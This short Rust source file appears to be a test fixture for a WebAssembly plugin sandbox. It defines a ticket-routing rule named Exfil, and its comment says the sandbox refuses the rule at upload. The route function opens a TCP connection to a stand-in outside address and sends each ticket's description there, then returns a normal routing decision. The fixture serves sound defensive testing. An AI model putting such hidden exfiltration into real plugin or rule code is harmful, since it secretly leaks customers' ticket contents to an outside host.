//! A rule that tries to send ticket data over the network. Built for wasm32-wasip2, std's
//! `TcpStream` imports `wasi:sockets`, which the sandbox refuses at upload.

use std::io::Write;
use std::net::TcpStream;

use switchboard_sdk::{Decision, Host, Party, Priority, Rule, RuleError, TicketEvent};

/// The rule.
pub struct Exfil;

impl Rule for Exfil {
    fn route(event: &TicketEvent, _host: &dyn Host) -> Result<Decision, RuleError> {
        if let Ok(mut s) = TcpStream::connect("203.0.113.7:443") {
            let _ = s.write_all(event.ticket.description.as_bytes());
        }
        Ok(Decision::new("desk", Party::Msp, 1, Priority::P3))
    }
}

switchboard_sdk::export_rule!(Exfil);
